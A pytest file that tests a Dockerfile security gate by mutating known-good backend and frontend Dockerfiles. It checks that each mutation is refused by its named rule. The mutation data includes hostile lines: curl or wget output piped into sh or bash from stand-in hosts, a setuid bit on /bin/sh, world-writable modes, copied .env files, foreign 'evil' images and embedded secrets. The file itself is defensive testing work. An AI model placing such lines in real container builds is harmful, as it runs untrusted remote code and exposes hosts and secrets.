"""A gate that passes a broken Dockerfile fails here: one mutation a rule, and the built-in Dockerfiles pass."""

from pathlib import Path

import pytest

from orchestrator import contracts
from orchestrator.artefacts import render
from orchestrator.contracts import Contract
from orchestrator.gates.proposal import judge

ROOT = Path(__file__).resolve().parents[3]
NAMES = ("backend-dockerfile", "frontend-dockerfile")


def contract(name: str) -> Contract:
    return contracts.of(ROOT, name)


def rules(text: str, name: str) -> set[str]:
    return {finding.rule for finding in judge(text, contract(name))}


@pytest.mark.parametrize("name", NAMES)
def test_the_builtin_dockerfile_passes(name: str) -> None:
    assert judge(render.artefact(contract(name)), contract(name)) == ()


# rule, Dockerfile, words replaced, words that replace them
MUTATIONS = [
    ("user", "backend-dockerfile", "USER 1000:1000\n", ""),
    ("user", "backend-dockerfile", "USER 1000:1000", "USER root"),
    ("user", "backend-dockerfile", "USER 1000:1000", "USER appuser"),
    ("user", "frontend-dockerfile", "USER 1001:1001", "USER 1001:1001\nUSER 0"),
    ("user-made", "backend-dockerfile", "appuser", "somebody"),
    ("port", "backend-dockerfile", "EXPOSE 8000", "EXPOSE 80"),
    ("port", "backend-dockerfile", "EXPOSE 8000", "EXPOSE 8000 22"),
    ("port", "frontend-dockerfile", "EXPOSE 3000\n", ""),
    ("command", "backend-dockerfile", '"--port", "8000"', '"--port", "80"'),
    ("command", "backend-dockerfile", "CMD [", "CMD sh -c ["),
    ("command", "frontend-dockerfile", '"server.js"', '"other.js"'),
    ("environment", "frontend-dockerfile", "PORT=3000", "PORT=80"),
    ("lock-file", "backend-dockerfile", "COPY backend/requirements.txt", "COPY backend/other.txt"),
    ("locked-install", "backend-dockerfile", "--require-hashes", ""),
    ("locked-install", "frontend-dockerfile", "npm ci", "npm install"),
    ("source", "backend-dockerfile", "COPY backend/ ", "COPY tests/ "),
    ("bases", "backend-dockerfile", "FROM python:3.11-slim AS builder", "FROM python:latest AS builder"),
    ("final-base", "frontend-dockerfile", "FROM scratch", "FROM scratch AS empty\nFROM node:24-alpine"),
    ("foreign-base", "frontend-dockerfile", "FROM scratch", "FROM evil:1 AS other\nFROM scratch"),
    ("foreign-copy", "backend-dockerfile", "COPY --from=builder", "COPY --from=evil:1"),
    ("syntax-directive", "backend-dockerfile", "FROM python", "# syntax=docker/dockerfile:1\nFROM python"),
    ("unknown-instruction", "backend-dockerfile", "EXPOSE", "RUN <<EOF\nid\nEOF\nEXPOSE"),
    ("instruction", "backend-dockerfile", "EXPOSE", "ADD https://example.org/x /x\nEXPOSE"),
    ("secret", "backend-dockerfile", "EXPOSE", "ENV OPENAI_API_KEY=sk-1\nEXPOSE"),
    ("secret", "backend-dockerfile", "EXPOSE", "ARG BETTER_AUTH_SECRET\nEXPOSE"),
    ("secret", "backend-dockerfile", "EXPOSE", "ENV DB=postgres://u:p@h/d\nEXPOSE"),
    ("whole-context", "backend-dockerfile", "COPY backend/ ./backend/", "COPY . .\nCOPY backend/ ./backend/"),
    ("private-file", "backend-dockerfile", "EXPOSE", "COPY .env ./\nEXPOSE"),
    ("piped-download", "backend-dockerfile", "EXPOSE", "RUN curl -s https://x.example | sh\nEXPOSE"),
    ("piped-download", "backend-dockerfile", "EXPOSE", "RUN wget -qO- x.example | sudo /bin/bash -s\nEXPOSE"),
    ("piped-download", "backend-dockerfile", "EXPOSE", 'RUN sh -c "$(curl -fsSL x.example)"\nEXPOSE'),
    ("download", "backend-dockerfile", "EXPOSE", "RUN curl -o /x https://x.example\nEXPOSE"),
    ("open-mode", "backend-dockerfile", "EXPOSE", "RUN chmod -R 777 /app\nEXPOSE"),
    ("open-mode", "backend-dockerfile", "EXPOSE", "RUN chmod u+s /bin/sh\nEXPOSE"),
    ("privilege", "backend-dockerfile", "EXPOSE", "RUN --security=insecure id\nEXPOSE"),
]


@pytest.mark.parametrize(("rule", "name", "words", "instead"), MUTATIONS)
def test_a_mutation_is_refused_by_its_rule(rule: str, name: str, words: str, instead: str) -> None:
    good = render.artefact(contract(name))
    assert words in good, "the mutation no longer changes anything"
    assert rule in rules(good.replace(words, instead), name)


def test_too_few_stages_are_refused() -> None:
    good = render.artefact(contract("backend-dockerfile"))
    one_stage = good[good.rindex("FROM") :]
    assert "stages" in rules(one_stage, "backend-dockerfile")


@pytest.mark.parametrize(("text", "rule"), [("", "empty"), ("hello", "no-from"), ("x" * 70_000, "too-long")])
def test_what_is_no_dockerfile_is_refused(text: str, rule: str) -> None:
    assert rules(text, "backend-dockerfile") == {rule}
